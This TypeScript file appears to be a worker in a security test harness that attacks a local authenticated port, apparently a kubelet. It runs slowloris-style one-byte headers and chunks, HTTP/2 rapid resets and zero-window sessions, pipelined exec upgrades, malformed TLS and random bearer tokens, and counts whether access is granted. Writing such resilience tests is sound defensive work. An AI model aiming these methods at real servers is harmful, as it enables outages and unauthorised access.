// A client of the authenticated port without credentials, on its own thread. Invariant: it holds a bounded number of
// connections and sends a bounded number of requests. It closes all when it is stopped.

import { randomBytes } from "node:crypto";
import { once } from "node:events";
import { connect as connectHttp2, constants, type ClientHttp2Session } from "node:http2";
import { connect, type Socket } from "node:net";
import { connect as connectTls, type TLSSocket } from "node:tls";
import { parentPort, workerData } from "node:worker_threads";
import { sleep } from "../../tools/standalone/wait.js";
import { acceptedChains, craftedClients, type CraftedClient } from "./crafted-clients.js";
import type { ClientAttackData, ClientAttackReport } from "./unauthorised-client.js";

const { port, address, method, connections, requests } = workerData as ClientAttackData;
const report: ClientAttackReport = { made: 0, answers: 0, closed: 0, granted: 0 };
const open = new Set<Socket | ClientHttp2Session>();
let isOver = false;

function kept<T extends Socket | ClientHttp2Session>(one: T): T {
  open.add(one);
  one.on("error", () => undefined);
  one.once("close", () => {
    open.delete(one);
    report.closed++;
  });
  return one;
}

/** Connects from the attack's own address. */
const from = (): Socket => connect({ host: "127.0.0.1", port, localAddress: address }).on("error", () => undefined);

async function tcp(): Promise<Socket | undefined> {
  const socket = kept(from());
  const isThere = await Promise.race([once(socket, "connect"), once(socket, "close")]).catch(() => undefined);
  if (isThere === undefined || socket.destroyed) return undefined;
  report.made++;
  return socket;
}

async function tls(): Promise<TLSSocket | undefined> {
  const socket = kept(connectTls({ socket: from(), rejectUnauthorized: false }));
  await Promise.race([once(socket, "secureConnect"), once(socket, "close")]).catch(() => undefined);
  if (socket.destroyed) return undefined;
  report.made++;
  return socket;
}

/** Or closed. */
function drained(socket: Socket): Promise<void> {
  return new Promise((resolve) => {
    const done = (): void => {
      socket.off("drain", done).off("close", done);
      resolve();
    };
    socket.once("drain", done).once("close", done);
    if (socket.destroyed) done();
  });
}

/** `make` again and again, a few at a time, until as many connections are open as the attack holds. */
async function crowd(make: (index: number) => Promise<void>, total = requests): Promise<void> {
  for (let made = 0; made < total && !isOver;) {
    if (open.size >= connections) {
      await sleep(20);
      continue;
    }
    const wave = Math.min(50, total - made, connections - open.size);
    await Promise.all(Array.from({ length: wave }, (_, at) => make(made + at)));
    made += wave;
    // A refused connection is not repeated in a tight loop.
    await sleep(5);
  }
}

const HEAD = "Host: x\r\n";
const UPGRADE = "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: x\r\n";

const counting = (socket: Socket | undefined): Socket | undefined =>
  socket?.on("data", (data: Buffer) => {
    report.answers++;
    if (data.includes("HTTP/1.1 200")) report.granted++;
  });

const METHODS: Readonly<Record<ClientAttackData["method"], () => Promise<void>>> = {
  "pipelined-upgrade": () =>
    crowd(async () => {
      const socket = counting(await tls());
      socket?.write(`GET /pods HTTP/1.1\r\n${HEAD}\r\nGET /exec/a/b/c HTTP/1.1\r\n${HEAD}${UPGRADE}\r\n`);
      socket?.setTimeout(500, () => socket.destroy());
    }),
  "half-heads": () =>
    crowd(async () => {
      const socket = counting(await tls());
      socket?.write(`GET /pods HTTP/1.1\r\n${HEAD}X-Long: ${"x".repeat(900 * 1024)}`);
    }),
  "refused-upgrades": () =>
    crowd(async () => {
      const socket = counting(await tls());
      socket?.pause();
      socket?.write(`GET /exec/a/b/c HTTP/1.1\r\n${HEAD}${UPGRADE}\r\nunread`);
    }),
  "closed-window": () =>
    crowd(async () => {
      const settings = { initialWindowSize: 0 };
      const createConnection = (): TLSSocket =>
        connectTls({ socket: from(), rejectUnauthorized: false, ALPNProtocols: ["h2"] });
      const session = kept(connectHttp2(`https://127.0.0.1:${port}`, { createConnection, settings }));
      await Promise.race([once(session, "connect"), once(session, "close")]).catch(() => undefined);
      if (session.destroyed) return;
      report.made++;
      for (let i = 0; i < 50; i++) {
        const stream = session.request({ ":path": "/pods" });
        stream.on("error", () => undefined);
        stream.on("response", () => report.answers++);
      }
    }),
  "slow-reads": () =>
    crowd(async () => {
      const socket = await tls();
      socket?.pause();
      for (let i = 0; i < 50 && socket?.writable === true; i++)
        socket.write(`GET /pods HTTP/1.1\r\n${HEAD}\r\n`.repeat(100));
    }),
  "garbage-tls": () =>
    crowd(async (index) => {
      const socket = counting(await tcp());
      // A handshake record that claims more than comes, or anything at all.
      const start = index % 2 === 0 ? Buffer.of(0x16, 3, 1, 0x3f, 0xff, 1, 0) : Buffer.alloc(0);
      socket?.write(Buffer.concat([start, randomBytes(512)]));
      socket?.setTimeout(1_000, () => socket.destroy());
    }),
  "silent-connections": () =>
    crowd(async () => {
      await tcp();
    }),
  "crafted-tls": () => steadily(10, craftedClients()),
  "accepted-chains": () => steadily(10, acceptedChains()),
  "rapid-resets": () =>
    crowd(async () => {
      const createConnection = (): TLSSocket =>
        connectTls({ socket: from(), rejectUnauthorized: false, ALPNProtocols: ["h2"] });
      const session = kept(connectHttp2(`https://127.0.0.1:${port}`, { createConnection }));
      await Promise.race([once(session, "connect"), once(session, "close")]).catch(() => undefined);
      if (session.destroyed) return;
      report.made++;
      for (let i = 0; i < 500; i++) {
        if (session.closed) return;
        const stream = session.request({ ":path": "/pods" });
        stream.on("error", () => undefined);
        stream.on("response", () => report.answers++);
        stream.close(constants.NGHTTP2_CANCEL);
        if (i % 50 === 0) await sleep(1);
      }
    }),
  "one-byte-heads": () =>
    crowd(async () => {
      const socket = counting(await tls());
      socket?.write(`GET /pods HTTP/1.1\r\n${HEAD}X-Long: `);
      // A record of TLS for each byte, so that each is read by itself.
      for (let sent = 0; sent < 60_000 && socket?.writable === true && !isOver; sent++) {
        if (!socket.write("x")) await drained(socket);
      }
    }),
  "one-byte-chunks": () =>
    crowd(async () => {
      const socket = counting(await tls());
      socket?.write(`POST /pods HTTP/1.1\r\n${HEAD}Transfer-Encoding: chunked\r\n\r\n`);
      const chunks = Buffer.from("1\r\nx\r\n".repeat(10_000));
      for (let sent = 0; sent < 500 && socket?.writable === true && !isOver; sent++) {
        if (!socket.write(chunks)) await drained(socket);
      }
    }),
  "cut-bodies": () =>
    crowd(async (index) => {
      const socket = counting(await tls());
      const framing =
        index % 2 === 0 ? "Content-Length: 9000000000" : "Expect: 100-continue\r\nTransfer-Encoding: chunked";
      socket?.write(`POST /run/a/b/c HTTP/1.1\r\n${HEAD}${framing}\r\n\r\n1\r\n`);
      await sleep(index % 20);
      // Ends its side, is reset, or stays.
      if (index % 3 === 0) socket?.end();
      else if (index % 3 === 1) socket?.destroy();
    }),
  "random-tokens": () =>
    crowd(async () => {
      const socket = counting(await tls());
      const ask = (): string =>
        `GET /pods HTTP/1.1\r\n${HEAD}Authorization: Bearer ${randomBytes(16).toString("hex")}\r\n\r\n`;
      socket?.write(Array.from({ length: 5 }, ask).join(""));
      socket?.setTimeout(2_000, () => socket.destroy());
    }),
};

/** A connection of each kind in turn, a fixed number per second: not as many as the kubelet takes. */
async function steadily(perSecond: number, clients: readonly CraftedClient[]): Promise<void> {
  for (let made = 0; made < requests && !isOver; made++) {
    await sleep(1000 / perSecond);
    const client = clients[made % clients.length];
    // One that is refused early has no socket to keep.
    client?.(port, address).then(
      (socket) => {
        report.made++;
        kept(socket);
      },
      () => report.closed++,
    );
  }
}

parentPort?.once("message", () => {
  isOver = true;
  for (const one of open) one.destroy();
  parentPort?.postMessage(report);
  parentPort?.close();
});
await METHODS[method]();
